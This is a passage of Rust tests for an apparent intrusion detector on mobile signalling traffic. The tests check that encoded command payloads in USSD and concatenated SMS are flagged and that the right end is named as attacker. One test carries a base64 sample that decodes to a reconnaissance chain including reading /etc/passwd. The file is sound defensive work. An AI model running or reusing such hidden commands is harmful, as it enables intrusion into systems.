        &|j| tbcd(&format!("2341500{:08}", j * 7919 + 1234)),
    ];
    for (k, ext) in quiet.into_iter().enumerate() {
        let (_, sigs) = reported(&updates_with_pieces(12, ext));
        assert!(!sigs.contains(&2007), "quiet {k}: {sigs:?}");
    }
}

/// The parts of one concatenated short message (UCS-2, 8-bit reference `reference`) in
/// mt-ForwardSMs from one title, a second apart, each with its delivery's answer.
fn concatenated(reference: u8, parts: &[String], t0: f64) -> Vec<Frame> {
    let total = parts.len() as u8;
    parts
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let udh = [0x00, 0x03, reference, total, i as u8 + 1];
            mt_sms(
                t0 + i as f64,
                "85290001234",
                0,
                0x08,
                Some(&udh),
                &ucs2(text),
            )
        })
        .collect()
}

/// A payload cut over a concatenated message's parts is one payload: the part found (2002)
/// shares its finding with the parts after it (found too) and before it (named with it);
/// prose in parts, and parts of another message between them, stay quiet.
#[test]
fn a_payload_cut_over_a_concatenated_messages_parts() {
    let hex: String = noise(61, 60).iter().map(|b| format!("{b:02x}")).collect();
    let (h1, rest) = hex.split_at(40);
    let (h2, h3) = rest.split_at(67);
    let prose = "Your parcel is on its way and arrives between ten and noon today";
    for (k, parts) in [
        // found in the first part; the next two alone are not (an odd-length hex run, a
        // short tail)
        vec![
            format!("Promo TSh 1000 bonus! Ref: {h1}"),
            h2.to_string(),
            h3.to_string(),
        ],
        // found in the last part: the prose before it is named with it
        vec![
            prose.to_string(),
            prose.to_string(),
            format!("Promo bonus! Ref: {h1}"),
        ],
    ]
    .into_iter()
    .enumerate()
    {
        let mut frames = concatenated(7, &parts, 10.0);
        // another message's parts in between, from the same title to the same recipient
        frames.insert(
            1,
            concatenated(8, &[prose.to_string(), prose.to_string()], 10.5)[0].clone(),
        );
        let (got, sigs) = reported(&frames);
        assert!(sigs.contains(&2002), "variant {k}: {sigs:?}");
        for f in [1u64, 3, 4] {
            assert!(
                got.contains(&f),
                "variant {k}: part in frame {f} not reported: {got:?}"
            );
        }
        assert!(
            !got.contains(&2),
            "variant {k}: another message's part reported"
        );
        // the reference used again once the message is whole: another message
        let mut later = frames.clone();
        later.extend(concatenated(7, &vec![prose.to_string(); 3], 60.0));
        let (got, _) = reported(&later);
        let n = frames.len() as u64;
        assert!(
            (n + 1..=n + 3).all(|f| !got.contains(&f)),
            "variant {k}: a later message of the same reference reported: {got:?}"
        );
    }
    let quiet = concatenated(
        9,
        &[prose.to_string(), prose.to_string(), prose.to_string()],
        1.0,
    );
    assert!(reported(&quiet).1.is_empty());
}

/// Without a policy, "foreign" names both ends of an international dialogue; the country
/// most titles belong to is home. Encoded USSD sent by a foreign title to a home one names
/// the foreign title as the attacker whose other messages are tagged; sent by a home title,
/// it names no one: never the home node, whose later dialogues with home nodes stay quiet.
#[test]
fn without_a_policy_the_home_end_of_a_c2_dialogue_is_never_the_attacker() {
    const HOME_HLR: &str = "628110000101";
    const HOME_VLR: &str = "628110000201";
    const SY_VLR: &str = "963930009000";
    let hex = "8a5aa471c04b68778153442d5c9d7593232de595bd974cd8f63f15e081741a11";
    let ussd_between = |ts: f64, otid: u32, calling: &str, called: &str, text: &str| {
        Frame::at(
            ts,
            map_invoke(
                otid,
                calling,
                called,
                (ac::NETWORK_UNSTRUCTURED_SS, 2),
                op::PROCESS_USSD,
                &ussd_arg(text),
            ),
        )
    };
    // (frames reported, of the last two) for a command sent by `from` to `to`, after a
    // background of home traffic, then the title at each end in a dialogue with a home node
    let run = |from: &str, to: &str| {
        let mut frames: Vec<Frame> = (0..80u32)
            .map(|i| {
                let other = if i % 4 == 0 { "447700900001" } else { HOME_VLR };
                ussd_between(f64::from(i), 0x1000 + i, "628110000301", other, "*100#")
            })
            .collect();
        frames.push(ussd_between(100.0, 0x2000, from, to, hex));
        frames.push(ussd_between(110.0, 0x2001, HOME_HLR, HOME_VLR, "*123#"));
        frames.push(ussd_between(120.0, 0x2002, SY_VLR, HOME_VLR, "*123#"));
        let mut e = Engine::new(Policy::default());
        let (mut got, mut found) = (Vec::new(), false);
        decode(&frames, &mut |m| {
            e.observe(m, &mut |a| {
                found |= !a.tagged && a.sig.id() == 2001;
                got.push(a.frame);
            })
        });
        assert!(found, "{from} -> {to}: no 2001");
        let n = frames.len() as u64;
        (got.contains(&(n - 1)), got.contains(&n))
    };
    // the foreign end sends the commands: it is named, its next dialogue is tagged; a home
    // title sends them (spoofed or compromised): no end is named (with the policy, neither
    // would be: the sender is home), and the home node's next dialogue stays quiet
    assert_eq!(run(SY_VLR, HOME_HLR), (false, true));
    assert_eq!(run(HOME_HLR, SY_VLR), (false, false));
}

/// A dialogue whose commands come after hundreds of other messages: its Begin, clean on its
/// own, is reported with the finding of its Continue (the request before it), and none of
/// the messages between.
#[test]
fn a_dialogues_begin_hundreds_of_messages_back_is_reported() {
    let frame = |ts: f64, begin: bool, otid: u32, calling: &str, text: &str| {
        ussd_dialogue_frame(ts, !begin, otid, calling, text)
    };
    let mut frames = vec![frame(1.0, true, 0x4400_0002, "85290001234", "*100#")];
    for i in 0..400u32 {
        frames.push(frame(
            2.0 + f64::from(i) * 0.01,
            true,
            0x7000 + i,
            "447700900123",
            "*100#",
        ));
    }
    frames.push(frame(
        10.0,
        false,
        0x4400_0002,
        "85290001234",
        "aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvcGFzc3dkOyBscyAtbGEgL3RtcDsgd2hvYW1p",
    ));
    let (got, sigs) = reported(&frames);
    assert!(sigs.contains(&2001), "{sigs:?}");
    let last = frames.len() as u64;
    assert_eq!(got, [1, last].into_iter().collect(), "{sigs:?}");
}
